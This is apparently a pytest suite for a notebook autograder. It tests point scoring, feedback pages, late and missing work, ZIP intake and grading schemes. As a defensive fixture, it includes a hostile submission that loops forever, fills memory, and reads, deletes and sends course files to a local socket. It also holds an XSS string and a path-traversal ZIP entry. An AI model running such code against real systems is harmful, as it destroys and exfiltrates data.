"""Grading: four made submissions, from a perfect to a hostile one; and each part of what they go through."""

import csv
import functools
import hashlib
import json
import os
import re
import shutil
import socket
import threading
import zipfile
from dataclasses import replace
from pathlib import Path

import nbformat
import numpy as np
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

from labhelpers import cli
from labhelpers.course import grade, judging, sandbox
from labhelpers.course.checks import EXERCISES, core
from labhelpers.course.run import read_notebook

NOTEBOOKS = Path(__file__).parent.parent / "notebooks"
SECRET = "secret-4711"  # stands among the hidden tests
IMPORTS = "import torch\n\nfrom labhelpers.course import checks"
RIGHT = {
    "mean_iou": """def mean_iou(matrix):
    hits = matrix.diagonal()
    union = matrix.sum(0) + matrix.sum(1) - hits
    return (hits / union.clamp(min=1))[union > 0].mean().item()""",
    "transposed_output_size": """def transposed_output_size(size, kernel, stride, padding=0, output_padding=0):
    return (size - 1) * stride + kernel - 2 * padding + output_padding""",
    "effective_kernel": """def effective_kernel(kernel, rate):
    return rate * (kernel - 1) + 1""",
    "step_lr": """def step_lr(step, every, lr, gamma=0.1):
    return lr * gamma ** (step // every)""",
}
EMPTY = {name: f"{body.splitlines()[0]}\n    raise NotImplementedError()" for name, body in RIGHT.items()}
HALF = {**EMPTY, "mean_iou": RIGHT["mean_iou"], "effective_kernel": RIGHT["effective_kernel"].replace(" + 1", "")}
# Never ends, fills the memory, and deletes, reads and sends what it finds; one of its answers is right.
HOSTILE = {
    "mean_iou": """def mean_iou(matrix):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass""",
    "transposed_output_size": """def transposed_output_size(size, kernel, stride, padding=0, output_padding=0):
    blocks = []
    while True:
        blocks.append(torch.empty(2**28))""",
    "effective_kernel": RIGHT["effective_kernel"],
    "step_lr": """
import pathlib, shutil, socket
found = "".join(path.read_text() for path in pathlib.Path(OUTSIDE).rglob("*.*"))
shutil.rmtree(OUTSIDE, ignore_errors=True)
try:
    pathlib.Path(OUTSIDE, "left-behind").write_text("x")
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", PORT), 5).send(found.encode())
except OSError:
    pass
print(found)
def step_lr(step, every, lr, gamma=0.1):
    raise ValueError(found[:250] + found[-250:])""",
}
POINTS = {"mean_iou": 3, "transposed_output_size": 2, "effective_kernel": 2, "step_lr": 1, "question": 2}


def about(name: str, **more) -> dict:
    kinds = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
    return {"nbgrader": {**kinds, "grade_id": f"01-{name}", **more}}


def notebook(answers: dict[str, str], question: str = "Model answer.") -> nbformat.NotebookNode:
    """The instructor's notebook with some answers."""
    code, text = nbformat.v4.new_code_cell, nbformat.v4.new_markdown_cell
    cells = [code(IMPORTS)]
    for name, body in answers.items():
        test = f'### BEGIN HIDDEN TESTS\nchecks.grade("{name}", {name})  # {SECRET}\n### END HIDDEN TESTS'
        graded = about(f"{name}-grade", grade=True, locked=True, points=POINTS[name])
        cells.append(code(f"### BEGIN SOLUTION\n{body}\n### END SOLUTION", metadata=about(name, solution=True)))
        cells.append(code(f"# Graded.\n{test}", metadata=graded))
    graded = about("question-1", grade=True, solution=True, points=POINTS["question"])
    cells.append(text(question, metadata=graded))
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})


def files(folder: Path) -> dict[str, str]:
    found = (path for path in folder.rglob("*") if path.is_file())
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in found}


def rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture(scope="module")
def handed_in(tmp_path_factory):
    """A course with an instructor's notebook, and four submissions, one of them in a ZIP with a report."""
    course = tmp_path_factory.mktemp("course")
    listener = socket.create_server(("127.0.0.1", 0))
    calls: list[object] = []
    threading.Thread(target=lambda: calls.append(listener.accept()), daemon=True).start()
    (course / "notebooks").mkdir()
    nbformat.write(notebook(RIGHT), course / "notebooks" / "01_toy.ipynb")
    made = {"empty": notebook(EMPTY, "YOUR ANSWER HERE"), "half": notebook(HALF, "42 <script>alert(1)</script>")}
    if sandbox.isolated():  # elsewhere it would do what it says
        places = {"OUTSIDE": repr(str(course)), "PORT": str(listener.getsockname()[1])}
        text = re.sub("|".join(places), lambda match: places[match[0]], HOSTILE["step_lr"])
        made["hostile"] = notebook({**HOSTILE, "step_lr": text}, "")
    for name, one in made.items():
        for cell in one.cells:  # a student who changes a test
            if cell.metadata.get("nbgrader", {}).get("locked"):
                cell.source = "pass"
        (course / "submitted" / name).mkdir(parents=True)
        nbformat.write(one, course / "submitted" / name / "01_toy (2).ipynb")
    (course / "submitted" / "half" / "timestamp.txt").write_text("2026-03-02 12:00:00 UTC")
    (course / "submitted" / "due.toml").write_text("01 = 2026-03-02T10:30:00Z\n")
    with zipfile.ZipFile(course / "submitted" / "lab05_doe_jane.zip", "w") as archive:
        archive.writestr("lab05_doe_jane/notebooks/01_toy.ipynb", nbformat.writes(notebook(RIGHT, "Because.")))
        archive.writestr("lab05_doe_jane/report.pdf", b"%PDF-1.4")
    os.utime(course / "submitted" / "lab05_doe_jane.zip", (1.7e9, 1.7e9))
    before = files(course)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(judging, "SECONDS", 4.0)
        grade.grade(course / "submitted", course / "notebooks", course / "out")
    return course, before, calls


def test_points_of_four_submissions(handed_in):
    found = rows(handed_in[0] / "out" / "points.csv")
    points = {(row["student"], row["cell"].split("-")[1]): row for row in found if row["notebook"] == "01_toy"}
    expected = {"doe_jane": dict(POINTS, question=0), "half": {"mean_iou": 3}, "empty": {}}
    if sandbox.isolated():
        expected["hostile"] = {"effective_kernel": 2}
    for student, right in expected.items():
        for name, possible in POINTS.items():
            row = points[student, name]
            assert (float(row["points"]), float(row["of"])) == (right.get(name, 0), possible), row
        answered = student in ("doe_jane", "half")
        assert points[student, "question"]["state"] == ("to grade" if answered else "missing")


def test_what_is_wrong_stands_in_the_feedback_and_no_hidden_test(handed_in):
    pages = {path.parent.name: path.read_text() for path in (handed_in[0] / "out").glob("*/01_toy.html")}
    pages = {student: " ".join(page.split()) for student, page in pages.items()}  # hints are wrapped
    assert "Not right yet" not in pages["doe_jane"]
    waiting = "Answers that a person still has to grade: 1. Until then they have 0 points here."
    assert [waiting in pages[student] for student in ("doe_jane", "half", "empty")] == [True, True, False]
    assert pages["empty"].count("Not right yet: not written yet") == 4
    assert "effective_kernel(" in pages["half"].partition("Not right yet")[2]
    for words in ("does a loop never end?", "allocate memory", "ValueError") if "hostile" in pages else ():
        assert words in pages["hostile"]
    everything = "".join(pages.values()) + (handed_in[0] / "out" / "marks.csv").read_text()
    assert SECRET not in everything
    assert "<script>alert(1)" not in everything


def test_late_missing_and_odd_things_are_shown(handed_in):
    marks = {row["student"]: row for row in rows(handed_in[0] / "out" / "marks.csv")}
    assert marks["half"]["late"] == "01_toy by 1.5 h"
    assert (marks["doe_jane"]["late"], marks["doe_jane"]["notes"]) == ("", "")
    assert (marks["doe_jane"]["missing"], marks["half"]["missing"]) == ("", "report")
    assert marks["doe_jane"]["to grade"] == "5"  # a question and four cells of the report
    if "hostile" in marks:
        assert "01-step_lr uses shutil, socket: have a look" in marks["hostile"]["notes"]


def test_nothing_outside_is_changed_or_reached(handed_in):
    course, before, calls = handed_in
    assert {path: kept for path, kept in files(course).items() if f"{course}/out/" not in path} == before
    assert not calls


def test_points_given_by_a_person_stay_and_what_has_not_changed_is_not_run_again(handed_in, monkeypatch, capsys):
    course = handed_in[0]
    with grade.Course(course / "out" / "nbgrader", course / "notebooks", []).gradebook() as book:
        given = book.find_grade("01-question-1", "01_toy", "01_toy", "doe_jane")
        given.manual_score, given.needs_manual_grade = 1.5, False
        book.db.commit()
    monkeypatch.setattr(grade, "judge", None)  # whoever calls it fails
    grade.grade(course / "submitted", course / "notebooks", course / "out")
    assert "doe_jane                 01_toy                   9.5 of 10  as before" in capsys.readouterr().out
    page = (course / "out" / "doe_jane" / "01_toy.html").read_text()
    assert "Score: 1.5 / 2.0" in page
    assert "still has to grade" not in page


def test_a_real_lab_is_graded_and_an_answer_may_build_on_a_wrong_one():
    """Lab 03's heads are made of ASPP; who got that wrong works on with the reference, as in the notebook."""
    lab = read_notebook(NOTEBOOKS / "03_deeplabv3plus.ipynb")
    for cell in lab.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "03-ASPP":
            cell.source = "class ASPP(helper()): ..."
    lab.cells.append(nbformat.v4.new_code_cell("def helper():\n    return nn.Module"))  # written anywhere
    lab.cells.insert(3, lab.cells.pop())
    wrong = {name: hint for name, hint in judging.judge(lab, "03_deeplabv3plus.ipynb").items() if hint}
    assert list(wrong) == ["03-ASPP-grade"]


def test_tests_of_an_instructors_own_and_a_system_without_isolation(monkeypatch):
    monkeypatch.setattr(sandbox, "isolated", lambda: False)
    cells = [nbformat.v4.new_code_cell("FACTOR = 2\n1 / 0", metadata={})]
    for name, body in {"right": "FACTOR * x", "wrong": f"{SECRET!r}[x]"}.items():
        metadata = about(name, solution=True)
        cells.append(nbformat.v4.new_code_cell(f"def {name}(x):\n    return {body}", metadata=metadata))
        metadata = about(f"{name}-grade", grade=True, locked=True, points=1)
        cells.append(nbformat.v4.new_code_cell(f"assert {name}(21) == 42, {SECRET!r}", metadata=metadata))
    graded = judging.judge(nbformat.v4.new_notebook(cells=cells), "01_toy.ipynb")
    assert graded == {"01-right-grade": "", "01-wrong-grade": "a hidden test fails."}


# ------------------------------------------------------------- parts


@pytest.mark.parametrize("name", EXERCISES)
def test_what_a_right_answer_gives_is_right_again_out_here(name):
    exercise, reference = EXERCISES[name], EXERCISES[name].reference
    answer = functools.wraps(reference)(lambda *args, **kwargs: reference(*args, **kwargs))
    answer = type(reference.__name__, (reference,), {}) if isinstance(reference, type) else answer
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    try:
        hint, recording = judging._record(exercise, answer)
    finally:
        torch.set_num_threads(threads)
    assert hint == ""
    # Three exercises look at the answer itself, in the sandbox: what is recorded of them is nothing.
    assert bool(recording) == (name not in ("own_loss", "sample_points", "tile_starts"))
    recording = json.loads(json.dumps(recording))
    assert judging._confirm(exercise, recording) == ""
    if recording:
        assert judging._confirm(exercise, recording[:-1]) != ""


@pytest.mark.parametrize("name", ["mean_iou", "step_lr", "iou_matrix", "focal_loss"])
def test_what_wrong_answers_give_is_wrong_out_here(name):
    for answer in EXERCISES[name].wrong_answers:
        check, outcomes = core.Check(), []
        torch.default_generator.manual_seed(0)
        for case in EXERCISES[name].cases():
            torch.default_generator.manual_seed(0)
            try:
                outcomes.append(judging._plain(EXERCISES[name].run(check, answer, case)))
            except core.Mistake:
                outcomes.append(None)
        assert judging._confirm(EXERCISES[name], outcomes) != ""


PLAIN = st.none() | st.booleans() | st.integers() | st.floats() | st.text()
ARRAYS = st.sampled_from([np.zeros((0, 3)), np.arange(6.0).reshape(2, 3), np.array(True), np.float32(0.5), np.int8(3)])
TENSORS = st.sampled_from([torch.zeros(2, 0), torch.randn(2, 3).bfloat16(), torch.tensor(True), torch.eye(3).T])
VALUES = st.recursive(
    PLAIN | ARRAYS | TENSORS,
    lambda inner: st.lists(inner) | st.lists(inner).map(tuple) | st.dictionaries(st.text() | st.integers(), inner),
)


def same(a: object, b: object) -> bool:
    if isinstance(a, list | tuple):
        return type(a) is type(b) and len(a) == len(b) and all(map(same, a, b))
    if isinstance(a, dict):
        return list(a) == list(b) and all(same(a[key], b[key]) for key in a)
    if isinstance(a, torch.Tensor):
        return a.dtype == b.dtype and torch.equal(a, b)
    return type(a) is type(b) and bool(np.array_equal(a, b) or (a != a and b != b))


@settings(max_examples=60, deadline=None)
@given(VALUES)
def test_values_come_through_json_as_they_are(value):
    assert same(judging._value(json.loads(json.dumps(judging._plain(value)))), value)


def test_other_values_are_named_and_odd_ones_refused():
    assert core.kind_of(judging._value(judging._plain(object()))) == "a value of type object"
    assert isinstance(judging._value(judging._plain(core.Parts(a=1))), core.Parts)
    for odd in (["array", "O", [1], "AAAA"], ["tensor", "float32", [10**12], ""], ["tensor", "ops", [1], "AAAA"]):
        with pytest.raises((ValueError, TypeError, RuntimeError)):
            judging._value(odd)


@pytest.mark.parametrize(
    "forge",
    [
        lambda job: [[job["nonce"], "start"], ["guessed", "01-a x", "", []], [job["nonce"], "end"]],
        lambda job: ["passed", 3, {}, [job["nonce"]], [job["nonce"], 1], [job["nonce"], "01-a x", ""]],
        lambda job: [[job["nonce"], "01-mean_iou-grade mean_iou", "", []], [job["nonce"], "end"]],
        lambda job: [*[[job["nonce"], "01-mean_iou-grade mean_iou", "", None]] * 2, [job["nonce"], "end"]],
    ],
)
def test_claims_of_the_process_are_worth_nothing(forge, monkeypatch):
    def say(code, job, seconds, hide):
        return b"\n".join(json.dumps(line).encode() for line in forge(json.loads(job))) + b"\n\xff{", ""

    monkeypatch.setattr(sandbox, "run", say)
    only = notebook(RIGHT)
    only.cells = only.cells[:3]
    assert judging.judge(only, "01_toy.ipynb")["01-mean_iou-grade"]


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("# nothing", "01-x tests nothing"),
        ('checks.grade("mean_iuo", mean_iou)', "unknown exercise 'mean_iuo'"),
        ('checks.grade("mean_iou", lambda m: 1)', 'write checks.grade("exercise", answer)'),
    ],
)
def test_a_graded_cell_that_cannot_tell_is_the_instructors_mistake(source, words):
    cell = nbformat.v4.new_code_cell(source, metadata=about("x", grade=True, locked=True, points=1))
    with pytest.raises(ValueError, match=re.escape(words)):
        judging.judge(nbformat.v4.new_notebook(cells=[cell]), "01_toy.ipynb")


def test_only_answers_and_added_cells_are_taken():
    given, mine = notebook(EMPTY), notebook(RIGHT)
    mine.cells[0].source += "\nimport math"  # changed: comes along
    mine.cells[2].source = "pass  # the test"
    mine.cells[3].metadata.nbgrader.points = 100
    mine.cells[1:1] = [nbformat.v4.new_markdown_cell("A note."), nbformat.v4.new_code_cell("def helper(): ...")]
    first = mine.cells[3]
    mine.cells = [cell for cell in mine.cells if "step_lr" not in cell.source] + [first]
    merged, notes = grade.merge(given, mine)
    sources = [cell.source for cell in merged.cells]
    assert sources[:4] == [IMPORTS, f"{IMPORTS}\nimport math", "def helper(): ...", first.source]
    assert sources[4] == given.cells[2].source
    assert len(sources) == len(given.cells) + 2
    assert notes == ["01-mean_iou was handed in twice: the first is graded", "01-step_lr is missing"]
    assert all(cell.metadata.get("nbgrader", {}).get("points", 0) < 100 for cell in merged.cells)


def test_all_that_can_be_handed_in_is_read(tmp_path):
    (tmp_path / "ann").mkdir()
    (tmp_path / "ann" / "01_toy.ipynb").write_text("<<<<<<< HEAD")
    (tmp_path / "ann" / "all.zip").write_bytes(b"PK no zip")
    (tmp_path / "bob").mkdir()
    with zipfile.ZipFile(tmp_path / "bob" / "x.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../01_large.ipynb", b"0" * (grade.LARGEST + 1))
        archive.writestr("a/01_toy.ipynb", nbformat.writes(notebook(RIGHT)))
        archive.writestr("b/01_toy.ipynb", nbformat.writes(notebook(RIGHT)))
        archive.writestr("02_unknown.ipynb", "{}")
    ann, bob = grade.submissions(tmp_path, ["01_toy"])
    assert not ann.notebooks
    assert "marks of a merge conflict" in ann.notes[0]
    assert "all.zip is damaged" in ann.notes[1]
    assert list(bob.notebooks) == ["01_toy"]
    assert [note.split(" ")[0] for note in bob.notes] == ["01_large.ipynb", "01_toy.ipynb"]
    assert sorted(path.name for path in tmp_path.rglob("*")) == ["01_toy.ipynb", "all.zip", "ann", "bob", "x.zip"]


def test_copies_by_colab_are_found_and_what_has_no_lab_in_its_name_is_told(tmp_path):
    (tmp_path / "ann").mkdir()
    for name in ("Copy of 01_toy", "「02_b.ipynb」的副本", "demo_minisam", "09_other"):
        nbformat.write(notebook(RIGHT), tmp_path / "ann" / f"{name}.ipynb")
    (ann,) = grade.submissions(tmp_path, ["01_toy", "02_b"])
    assert list(ann.notebooks) == ["01_toy", "02_b"]
    assert ann.notes == []
    nbformat.write(notebook(RIGHT), tmp_path / "ann" / "2026 my notes.ipynb")
    assert grade.submissions(tmp_path, ["01_toy"])[0].notes == [
        "2026 my notes.ipynb was left out: its name does not tell which lab it is"
    ]


def test_no_name_leads_outside_and_no_zip_takes_hours(tmp_path, monkeypatch):
    monkeypatch.setattr(grade, "LARGEST_ZIP", 20_000)
    for name in ("lab05_...zip", "lab05_.zip", "lab05_ann.zip"):
        with zipfile.ZipFile(tmp_path / name, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(1, 4):
                archive.writestr(f"0{number}_large.ipynb", b"0" * 9_000)
    found = grade.submissions(tmp_path, ["03_large"])
    assert {one.student for one in found} == {"lab05_..", "lab05_", "ann"}
    for one in found:
        assert re.fullmatch(r"\S+\.zip holds more than 20,000 bytes: what came last was not read", one.notes[0])


BAD_INPUT = [
    ("due.toml", "01 = soon", "write lines like 02 ="),
    ("due.toml", "09 = 2026-03-01T10:00:00Z", "due.toml names 09; known: 01, report"),
    ("due.toml", "01 = 3", "write 01 = 2026-03-01T23:59:00+01:00"),
    ("ann/timestamp.txt", "yesterday-ish", "write a time like"),
    ("lab05_ann.zip", "", "two submissions of ann"),
    ("", "", "nothing was handed in"),
]


def test_bad_input_is_one_line_that_names_the_file(tmp_path, monkeypatch, capsys):
    (tmp_path / "notebooks").mkdir()
    nbformat.write(notebook(RIGHT), tmp_path / "notebooks" / "01_toy.ipynb")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(grade.Course, "grade", None)
    for path, text, words in BAD_INPUT:  # in one course, which nbgrader needs seconds to make
        shutil.rmtree("submitted", ignore_errors=True)
        if path:
            (tmp_path / "submitted" / "ann").mkdir(parents=True)
            (tmp_path / "submitted" / path).write_text(text)
        assert cli.main(["grade"]) == 1
        error = capsys.readouterr().err
        assert words in error
        assert error.startswith("labhelpers grade: ")


# ------------------------------------------------------------- the table


GRADED = [
    grade.Points(cell.metadata.nbgrader.grade_id, 0, cell.metadata.nbgrader.points, cell.cell_type)
    for path in (*sorted(NOTEBOOKS.glob("*.ipynb")), None)
    for cell in (read_notebook(path) if path else grade._report_notebook()).cells
    if cell.metadata.get("nbgrader", {}).get("grade")
]


@pytest.mark.parametrize("name", grade.table()["schemes"])
def test_a_scheme_gives_100_percent_for_all_points_and_its_shares_for_single_ones(name):
    scheme = grade.table()["schemes"][name]
    full = [replace(points, earned=points.possible) for points in GRADED]
    assert sum(grade.marks(scheme, full).values()) == pytest.approx(100)
    assert grade.marks(scheme, full) == pytest.approx({part["name"]: part["share"] for part in scheme["parts"]})
    assert set(grade.marks(scheme, GRADED).values()) == {0}


def test_every_graded_cell_counts_in_a_scheme_and_no_cell_twice():
    used = {name: set() for name in grade.table()["schemes"]}
    for name, scheme in grade.table()["schemes"].items():
        for points in GRADED:
            one = [replace(other, earned=other.possible * (other is points)) for other in GRADED]
            parts = sum(percent > 0 for percent in grade.marks(scheme, one).values())
            assert parts <= 1, (name, points.cell)
            used[name] |= {points.cell} if parts else set()
    assert set().union(*used.values()) == {points.cell for points in GRADED}


def test_what_the_handouts_say():
    shares = {name: [part["share"] for part in scheme["parts"]] for name, scheme in grade.table()["schemes"].items()}
    assert shares["uvigo"] == [25, 25, 30, 20]
    assert shares["cmu"] == [20, 30, 35, 15]
    assert shares["cmu_40"] == [20, 30, 40, 10]


def test_every_written_answer_has_a_rubric_with_its_points():
    written = {points.cell: points.possible for points in GRADED if points.state == "markdown"}
    rubrics = grade.table()["rubrics"]
    assert rubrics.keys() == written.keys()
    for cell, text in rubrics.items():
        if written[cell] > 1:  # those of a point are told by halves
            told = [(float(n), each) for n, each in re.findall(r"(\d) points?( each| for three)?", text)]
            assert written[cell] == sum(n for n, _ in told) or any(each for _, each in told), cell
